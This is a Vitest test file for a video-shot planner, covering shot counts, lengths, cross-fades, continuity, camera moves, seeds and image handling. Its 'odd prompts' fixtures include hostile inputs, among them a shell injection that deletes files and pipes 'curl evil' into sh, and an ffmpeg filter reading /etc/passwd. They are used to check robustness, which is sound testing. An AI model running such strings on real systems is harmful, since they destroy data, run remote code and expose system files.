import { describe, expect, it } from "vitest";
import { UserMistake } from "../../src/core/errors.ts";
import { filmSeconds } from "../../src/core/film/film-plan.ts";
import type { VideoRequest } from "../../src/core/film/request.ts";
import type { ModelDescription } from "../../src/core/ports/video-backend.ts";
import { createRulesDirector } from "../../src/director/rules.ts";
import { aModel, aRequest, REAL_LENGTHS } from "./models.ts";

const director = createRulesDirector();
const plan = (request: Partial<VideoRequest> = {}, model: Partial<ModelDescription> = {}) =>
  director.plan(aRequest(request), aModel(model));

const STORY =
  "A red fox with a white scarf wakes in a snowy forest at dawn. It stretches and looks around. " +
  "Suddenly it hears a sound and runs between the trees. The camera slowly pushes in as it finds a frozen lake. " +
  "Later, a small wolf appears on the ice. They dance together under the northern lights.";

describe("the number of shots", () => {
  it.each([
    [3, 1],
    [5, 1],
    [8, 1],
    [10, 2],
    [20, 4],
    [60, 11],
  ])("of one sentence in %i s is %i", async (seconds, shots) => {
    expect((await plan({ seconds })).shots).toHaveLength(shots);
  });

  it("is one for each beat of a story that has room for them", async () => {
    const { shots } = await plan({ prompt: STORY, seconds: 20 });
    expect(shots.map((shot) => shot.beat)).toHaveLength(6);
  });

  it("of six sentences in a minute is ten to twelve, and all six are told in order", async () => {
    const { shots } = await plan({ prompt: STORY, seconds: 60 });
    expect(shots.length).toBeGreaterThanOrEqual(10);
    expect(shots.length).toBeLessThanOrEqual(12);
    const told = [...new Set(shots.map((shot) => shot.beat))];
    expect(told).toEqual([
      "A red fox with a white scarf wakes in a snowy forest at dawn.",
      "It stretches and looks around.",
      "Suddenly it hears a sound and runs between the trees.",
      "It finds a frozen lake.",
      "Later, a small wolf appears on the ice.",
      "They dance together under the northern lights.",
    ]);
  });

  it("is what a script says", async () => {
    const { shots } = await plan({
      prompt: "Shot 1: a fox wakes. Shot 2: it jumps! Shot 3: it sleeps.",
      seconds: 12,
    });
    expect(shots.map((shot) => shot.beat)).toEqual(["a fox wakes.", "it jumps!", "it sleeps."]);
  });

  it("grows where the model's shots are short", async () => {
    const { shots } = await plan({ seconds: 8 }, { lengths: { choices: [4] } });
    expect(shots.map((shot) => shot.renderSeconds)).toEqual([4, 4]);
  });

  it("is held down by what the time allows, and the person is told when that joins shots of a script", async () => {
    const prompt = Array.from({ length: 9 }, (_, i) => `Shot ${i + 1}: fox number ${i + 1} jumps.`).join(" ");
    const { shots, warnings } = await plan({ prompt, seconds: 10 });
    expect(shots).toHaveLength(5);
    expect(warnings).toEqual(["10 s have room for 5 shots, so some of your 9 are told in one."]);
    for (let i = 1; i <= 9; i += 1) expect(shots.map((s) => s.beat).join(" ")).toContain(`fox number ${i}`);
  });
});

describe("lengths", () => {
  it("that a script names are kept in proportion", async () => {
    const { shots } = await plan({
      prompt: "Shot 1 (2s): a fox. Shot 2 (6s): a wolf. Shot 3 (2 sec): a bear.",
      seconds: 10,
    });
    expect(shots.map((shot) => shot.seconds)).toEqual([2, 6, 2]);
  });

  it("that timecodes name are kept", async () => {
    const { shots } = await plan({
      prompt: "[0-3s] a fox wakes [3-5s] it runs [5-10s] it sleeps in the snow",
      seconds: 10,
    });
    expect(shots.map((shot) => shot.seconds)).toEqual([3, 2, 5]);
  });

  it("follow how much a beat tells", async () => {
    const { shots } = await plan({
      prompt:
        "It snows. A very old grey wolf slowly crosses the frozen river, looks back at the burning village and howls for a long time.",
      seconds: 12,
    });
    expect(shots.at(-1)?.seconds).toBeGreaterThan(shots[0]?.seconds ?? 99);
  });

  it("waste nothing where the model's own lengths add up", async () => {
    for (const [name, seconds] of [
      ["kling", 60],
      ["kling", 10],
      ["sora", 60],
      ["veo", 60],
    ] as const) {
      const { shots } = await plan({ prompt: STORY, seconds }, { lengths: REAL_LENGTHS[name] as never });
      const made = shots.reduce((sum, shot) => sum + shot.renderSeconds, 0);
      expect([name, made]).toEqual([name, seconds]);
    }
  });

  it("that force the model to make much more than is asked are told", async () => {
    const { shots, warnings } = await plan({ seconds: 3 }, { lengths: { choices: [5, 10] } });
    expect(shots.map(({ seconds, renderSeconds }) => [seconds, renderSeconds])).toEqual([[3, 5]]);
    expect(warnings).toEqual(["Test Model makes shots of 5, 10 s only: 5 s are made and cut to 3 s."]);
  });

  it("are refused in plain words where the model makes next to nothing", async () => {
    await expect(plan({ seconds: 60 }, { lengths: { choices: [0.5] } })).rejects.toThrow(UserMistake);
    await expect(plan({ seconds: 60 }, { lengths: { choices: [] } })).rejects.toThrow(/no length/);
    await expect(plan({}, { kind: "image" })).rejects.toThrow(/still pictures, not videos/);
    await expect(plan({ prompt: "  \n " })).rejects.toThrow(/nothing to film/);
  });
});

describe("joins", () => {
  it("are cuts, but a cross-fade where time passes", async () => {
    const { shots } = await plan({ prompt: STORY, seconds: 18 });
    expect(shots.map((shot) => shot.join.kind)).toEqual(["cut", "cut", "cut", "crossfade", "cut", "cut"]);
    expect(shots[3]?.renderSeconds).toBeGreaterThanOrEqual((shots[3]?.seconds ?? 0) + 0.5);
  });

  it.each([
    "Dissolve to: a wolf howls alone.",
    "Hours later a wolf howls alone.",
    "Meanwhile a wolf howls alone.",
    "The next morning a wolf howls alone.",
    "At dawn, a wolf howls alone.",
  ])("dissolve into %j", async (second) => {
    const { shots } = await plan({ prompt: `A fox sleeps in the snow. ${second}`, seconds: 10 });
    expect(shots[0]?.join).toEqual({ kind: "crossfade", seconds: 0.5 });
  });

  it("stay cuts where the model would have to make a whole shot more for the overlap", async () => {
    const { shots } = await plan(
      { prompt: "A fox sleeps in the snow. Hours later a wolf howls.", seconds: 10 },
      { lengths: { choices: [5, 10] } },
    );
    expect(shots.map((shot) => [shot.join.kind, shot.renderSeconds])).toEqual([
      ["cut", 5],
      ["cut", 5],
    ]);
  });
});

describe("what carries over", () => {
  it("is who it is about, in pronouns and in looks", async () => {
    const { shots } = await plan({ prompt: STORY, seconds: 18 });
    expect(shots[1]?.prompt).toContain("The red fox stretches and looks around.");
    expect(shots[1]?.prompt).toContain("Seen here: red fox with a white scarf");
    expect(shots[5]?.prompt).toContain("The red fox and the small wolf dance together");
    expect(shots[5]?.beat).toBe("They dance together under the northern lights.");
  });

  it("is place and time of day, until the story names others", async () => {
    const { shots } = await plan({
      prompt:
        "A boy runs through a dark forest at night. He falls. At sunrise he stands on a beach. He laughs.",
      seconds: 16,
    });
    expect(shots.map((shot) => /Setting: (.*?)\./.exec(shot.prompt)?.[1])).toEqual([
      undefined,
      "dark forest, at night",
      undefined,
      "beach, at sunrise",
    ]);
  });

  it("is how somebody is dressed, also before it is told", async () => {
    const { shots } = await plan({
      prompt:
        "A stylish woman walks down a Tokyo street. She wears a black leather jacket. She smiles at the neon signs.",
      seconds: 12,
    });
    expect(shots[0]?.prompt).toContain("wears a black leather jacket");
    expect(shots[2]?.prompt).toContain("The stylish woman smiles");
    expect(shots[2]?.prompt).toContain("wears a black leather jacket");
    expect(shots[2]?.prompt).toContain("Tokyo street");
  });

  it("is style, and every sentence about the look, which is no shot of its own", async () => {
    const { shots } = await plan({
      prompt: "A fox wakes. It runs off. Shot on 35mm film. Warm light, soft colours.",
      seconds: 10,
      style: "noir",
    });
    expect(shots.map((shot) => shot.beat)).toEqual(["A fox wakes.", "It runs off."]);
    for (const shot of shots) {
      expect(shot.prompt).toContain("Shot on 35mm film.");
      expect(shot.prompt).toContain("black and white film noir");
    }
  });

  it("varies the coverage of a single sentence rather than repeating it", async () => {
    const { shots } = await plan({ seconds: 60 });
    const framings = shots.map((shot) => shot.prompt.split(".")[0]);
    expect(framings.slice(0, 4)).toEqual([
      "Wide establishing shot",
      "Medium shot",
      "Close-up",
      "Extreme close-up on a telling detail",
    ]);
    for (const [i, framing] of framings.entries()) expect(framing).not.toBe(framings[i - 1]);
  });
});

describe("the camera", () => {
  it("moves as the option says, in every shot", async () => {
    const { shots } = await plan({ prompt: STORY, seconds: 60, camera: "orbit" });
    expect(new Set(shots.map((shot) => shot.camera))).toEqual(new Set(["orbit"]));
  });

  it("moves as the beat says, and the instruction leaves the caption", async () => {
    const { shots } = await plan({
      prompt: "A fox wakes. The camera slowly pans left. It runs off, handheld.",
      seconds: 10,
    });
    expect(shots.map((shot) => [shot.beat, shot.camera])).toEqual([
      ["A fox wakes.", "pan-left"],
      ["It runs off.", "handheld"],
    ]);
    expect(shots[0]?.prompt).toContain("the camera slowly pans left");
  });

  it("neither repeats nor jolts back between neighbours when it may choose", async () => {
    const opposite = (move: string) =>
      move.replace(
        /left|right|up|down|in$|out$/,
        (end) => ({ left: "right", right: "left", up: "down", down: "up", in: "out", out: "in" })[end] ?? end,
      );
    for (let seed = 0; seed < 60; seed += 1) {
      const { shots } = await plan({ prompt: STORY, seconds: 60, seed });
      for (const [i, shot] of shots.entries()) {
        expect(shot.camera).not.toBe(shots[i - 1]?.camera);
        if (/-/.test(shot.camera)) expect(opposite(shot.camera)).not.toBe(shots[i - 1]?.camera);
      }
    }
  });
});

describe("the seed", () => {
  it("decides: the same gives the same plan, others give others", async () => {
    const plans = await Promise.all([1, 1, 2, 3].map((seed) => plan({ prompt: STORY, seconds: 60, seed })));
    expect(plans[0]).toEqual(plans[1]);
    expect(new Set(plans.map((p) => p.shots.map((s) => s.camera).join())).size).toBeGreaterThan(1);
  });

  it("of the first shot is the film's own, and each shot has another", async () => {
    const { shots } = await plan({ seconds: 60, seed: 7 });
    expect(shots[0]?.seed).toBe(7);
    expect(new Set(shots.map((shot) => shot.seed)).size).toBe(shots.length);
  });
});

describe("pictures", () => {
  const images: VideoRequest["images"] = [
    { key: "first", role: "start" },
    { key: "last", role: "end" },
    { key: "like", role: "reference" },
  ];

  it("go to the first shot, the last, and to all", async () => {
    const { shots, warnings } = await plan({ images, seconds: 20 });
    expect(shots.map((shot) => shot.startImage)).toEqual(["first", undefined, undefined, undefined]);
    expect(shots.map((shot) => shot.endImage)).toEqual([undefined, undefined, undefined, "last"]);
    expect(shots.every((shot) => shot.references?.join() === "like")).toBe(true);
    expect(warnings).toEqual([]);
  });

  it("that the model has no place for are given as references or named as left out", async () => {
    const takes = { ...aModel().takes, startImage: false, endImage: false };
    const asReference = await plan({ images, seconds: 5 }, { takes });
    expect(asReference.shots[0]?.references).toEqual(["first", "last", "like"]);
    expect(asReference.warnings[0]).toBe(
      "Test Model can't use your first picture as such; it is given as a reference.",
    );
    const none = await plan({ images, seconds: 5 }, { takes: { ...takes, references: false } });
    expect(none.warnings).toHaveLength(3);
    expect(none.warnings[0]).toBe("Test Model can't take your first picture, so it is left out.");
    expect(none.shots[0]?.references).toBeUndefined();
  });

  it("of a shape or size the model can't make are told", async () => {
    const { warnings } = await plan(
      { aspect: "21:9", resolution: "1080p" },
      { aspects: ["9:16", "16:9"], resolutions: ["720p"] },
    );
    expect(warnings).toEqual([
      "Test Model can't make 21:9; it is shot in 16:9, the nearest it can, and fitted.",
      "Test Model makes 720p, so it is scaled to 1080p.",
    ]);
  });
});

describe("odd prompts", () => {
  it.each(
    [
      "🦊❄️🏔️",
      "👨‍👩‍👧‍👦",
      "ثعلب أحمر يركض في الثلج. هل يقفز؟ نعم.",
      "一只红狐狸在雪地里醒来。它跳过小溪。",
      "$(rm -rf /); `id` && curl evil | sh",
      "[0:v]scale=1:1,drawtext=text='x':fontfile=/etc/passwd[out]",
      '{"prompt":"x","seconds":9999}',
      "a\u0000b\u0007c\u001b[31mred\u001b[0m",
      "\u202Eevil\u202C fox",
      ".",
      "!!!",
      "cut to:",
      "orbit",
      "The camera pans left.",
      "Shot 1:",
      "a".repeat(2000),
      "word ".repeat(400).trim(),
      "a. ".repeat(600).trim(),
      "(".repeat(1000),
      '"'.repeat(999),
      "1. 2. 3. 4.",
      "then then then then",
    ].map((prompt) => [prompt.slice(0, 40), prompt] as const),
  )("such as %j are only words", async (_, prompt) => {
    const { shots } = await plan({ prompt, seconds: 20 });
    expect(filmSeconds({ director: "", shots, warnings: [] })).toBe(20);
    for (const shot of shots) {
      expect(shot.beat).not.toBe("");
      expect(shot.beat).not.toMatch(/\p{Cc}/u);
      expect(shot.prompt.length).toBeLessThan(4000);
    }
  });
});
